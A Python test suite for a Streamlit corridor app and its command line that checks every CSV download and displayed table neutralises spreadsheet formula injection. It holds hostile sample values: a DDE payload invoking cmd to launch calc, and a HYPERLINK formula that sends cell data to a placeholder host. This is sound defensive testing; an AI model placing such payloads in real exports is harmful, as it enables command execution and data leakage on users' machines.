"""Every CSV the app and the command line write is neutralised (geo.csvsafe).

The downloads are read back from the app under streamlit.testing (the bytes each
``st.download_button`` hands to the browser); the tables' own "download as CSV" writes the
cells ``st.dataframe`` shows, so those cells are checked too.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st
import streamlit.testing.v1.app_test as app_test
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from geo import cli, indicators
from tests.network_fixture import build_small, fixture_layers, with_changes

TIMEOUT_S = 60
CMD = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://example.invalid/?d="&A1,"open")'


@pytest.fixture(autouse=True)
def _fresh(monkeypatch):
    monkeypatch.setenv("CORRIDOR_OFFLINE", "1")
    st.cache_data.clear()
    st.cache_resource.clear()
    yield
    st.cache_data.clear()
    st.cache_resource.clear()


@pytest.fixture
def media(monkeypatch) -> list[MemoryMediaFileStorage]:
    """The media storage of each AppTest run (download buttons put their bytes there)."""
    made: list[MemoryMediaFileStorage] = []

    def storage(endpoint: str) -> MemoryMediaFileStorage:
        made.append(MemoryMediaFileStorage(endpoint))
        return made[-1]

    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", storage)
    return made


def downloaded(at: AppTest, media: list[MemoryMediaFileStorage], label: str) -> str:
    """The text a download button of ``at`` gives the browser."""
    buttons = [b for b in at.get("download_button") if b.proto.label == label]
    assert len(buttons) == 1, [b.proto.label for b in at.get("download_button")]
    name = Path(buttons[0].proto.url).name
    return media[-1].get_file(name).content.decode("utf-8")


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def assert_no_formula(values) -> None:
    bad = [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r")
           and not _number(v)]
    assert not bad, bad


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text == text.strip()


# --------------------------------------------------------------------------- Routes page


def _routes_page():
    from webapp import routes

    routes.render()


def test_routes_legs_download_neutralises_place_names(media, monkeypatch):
    from webapp import routes

    layers = with_changes(fixture_layers(), "places", {
        "naryn": {"name_en": CMD}, "bishkek": {"name_en": LINK}})
    G = build_small(layers)
    monkeypatch.setattr(routes, "corridor_graph", lambda: G)  # the page's graph, this test only
    at = AppTest.from_function(_routes_page, default_timeout=TIMEOUT_S)
    at.query_params["origin"] = "bishkek"
    at.query_params["destination"] = "kashgar"
    at.query_params["by"] = "distance"
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    text = downloaded(at, media, "Legs (CSV)")
    legs = pd.read_csv(io.StringIO(text))
    assert legs["from"].iloc[0] == "'" + LINK
    assert "'" + CMD in set(legs["from"]) | set(legs["to"])
    assert_no_formula(cells(text))
    assert pd.api.types.is_float_dtype(legs["length_km"])  # numbers stay numbers
    # the legs table on the page (its own CSV download writes these cells)
    shown = next(d.value for d in at.dataframe if "From" in d.value.columns)
    assert shown["From"].iloc[0] == "'" + LINK
    assert_no_formula(shown.to_numpy().ravel())


# --------------------------------------------------------------------------- Data & sources page


def _data_page():
    from webapp import data_sources

    data_sources.render()


def test_data_page_shipped_csv_downloads_are_neutralised(media):
    at = AppTest.from_function(_data_page, default_timeout=TIMEOUT_S).run()
    assert not at.exception
    # no shipped cell needs neutralising (the one note that began with "=" was reworded), so
    # the download is the shipped file itself, byte for byte: it matches its manifest checksum
    raw = (indicators.DATA_DIR / "bilateral_trade.csv").read_text(encoding="utf-8")
    assert_no_formula(cells(raw))
    text = downloaded(at, media, "bilateral_trade.csv")
    assert text == raw
    manifest = json.loads((indicators.DATA_DIR / "manifest.json").read_text(encoding="utf-8"))
    sha = hashlib.sha256(text.encode("utf-8")).hexdigest()
    assert sha == manifest["files"]["bilateral_trade.csv"]["sha256"]
    for stem in indicators.tidy_files():
        assert_no_formula(cells(downloaded(at, media, f"{stem}.csv")))
    assert_no_formula(cells(downloaded(at, media, "Sources table (sources.csv)")))
    template = downloaded(at, media, "Template CSV")
    assert template == indicators.template_csv()  # nothing to neutralise: unchanged


def _csv(*rows: str) -> bytes:
    return ("\n".join([",".join(indicators.COLUMNS), *rows]) + "\n").encode()


def test_uploaded_formula_cells_are_neutralised_in_the_table(media):
    at = AppTest.from_function(_data_page, default_timeout=TIMEOUT_S).run()
    data = _csv(f'KZ-31,2024,year,population,5,persons,kz_bns,"{CMD}"',
                "KZ-19,2024,year,population,7,persons,kz_bns,@x",
                "KG-T,2024,year,population,9,persons,kz_bns,-1")
    at.file_uploader[0].set_value(("evil.csv", data, "text/csv"))
    at.run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    rows = next(d.value for d in at.dataframe if "Note" in d.value.columns)
    assert sorted(rows["Note"]) == sorted(["'" + CMD, "'@x", "'-1"])
    assert sorted(rows["Value"]) == [5, 7, 9]
    assert_no_formula(rows.to_numpy().ravel())


# --------------------------------------------------------------------------- Trade and Map pages


def _trade_page():
    from webapp import trade

    trade.render()


def test_trade_tables_show_the_shipped_notes_unchanged_and_no_formula():
    at = AppTest.from_function(_trade_page, default_timeout=TIMEOUT_S).run()
    assert not at.exception
    notes = [v for d in at.dataframe if "Note" in d.value.columns for v in d.value["Note"]]
    assert any(isinstance(v, str) and v.startswith("same as the KG NSC total") for v in notes)
    for d in at.dataframe:
        assert_no_formula(d.value.to_numpy().ravel())


def _region_details(df):
    from webapp import map as page

    page.region_details("KZ-31", "Zhambyl", df, "population")


def test_map_region_tables_are_neutralised():
    df = indicators.load_data()
    row = df[df["region"] == "KZ-31"].iloc[[0]].copy()
    row["note"] = CMD
    row["year"] = 1990
    hostile = pd.concat([df, row], ignore_index=True)
    at = AppTest.from_function(_region_details, args=(hostile,), default_timeout=TIMEOUT_S)
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    assert at.dataframe, "no region table"
    shown = [v for d in at.dataframe for v in d.value.to_numpy().ravel()]
    assert "'" + CMD in shown
    assert_no_formula(shown)


# --------------------------------------------------------------------------- command line


def test_cli_matrix_csv_is_neutralised(capsys):
    layers = with_changes(fixture_layers(), "places", {"almaty": {"name_en": LINK},
                                                        "osh": {"name_en": "@SUM(1)"}})
    G = build_small(layers)
    assert cli.main(["matrix", "almaty", "osh", "bishkek", "--csv"], graph=G) == 0
    text = capsys.readouterr().out
    table = pd.read_csv(io.StringIO(text))
    assert "'" + LINK in set(table["origin"]) and "'@SUM(1)" in set(table["destination"])
    assert_no_formula(cells(text))
    assert pd.api.types.is_float_dtype(table["length_km"])


# --------------------------------------------------------------------------- every table

#: Functions that hand st.dataframe a neutralised frame (each is checked below).
SAFE_TABLE_MAKERS = {"neutralise_frame", "human_frame", "human_table", "od_frame"}
WEBAPP = Path(__file__).resolve().parents[1] / "webapp"


def _dataframe_calls() -> list[tuple[str, int, str]]:
    """``(file, line, name of the function making the frame)`` of every ``.dataframe(`` call."""
    import ast

    found = []
    for path in sorted(WEBAPP.glob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr in ("dataframe", "data_editor", "table")):
                arg = node.args[0] if node.args else None
                maker = ""
                if isinstance(arg, ast.Call):
                    f = arg.func
                    maker = f.attr if isinstance(f, ast.Attribute) else getattr(f, "id", "")
                found.append((path.name, node.lineno, maker))
    return found


def test_every_table_of_the_app_is_neutralised_before_it_is_shown():
    """st.dataframe offers "download as CSV" of the cells it shows: each one gets its frame
    from a function that neutralises formula cells."""
    calls = _dataframe_calls()
    assert len(calls) >= 10
    unsafe = [c for c in calls if c[2] not in SAFE_TABLE_MAKERS]
    assert not unsafe, unsafe


def test_the_table_makers_neutralise():
    from webapp import charts, routes, scenarios

    hostile = pd.DataFrame({"note": [CMD], "length_km": [1.0]})
    assert charts.human_frame(hostile).iloc[0, 0] == "'" + CMD
    assert routes.human_table(hostile).iloc[0, 0] == "'" + CMD
    od = pd.DataFrame({c: [CMD] for c in scenarios.OD_COLUMNS})
    od["changed"], od["d_time_h"] = True, 1.0
    texts = [v for v in scenarios.od_frame(od, False).to_numpy().ravel() if isinstance(v, str)]
    assert texts and set(texts) == {"'" + CMD}
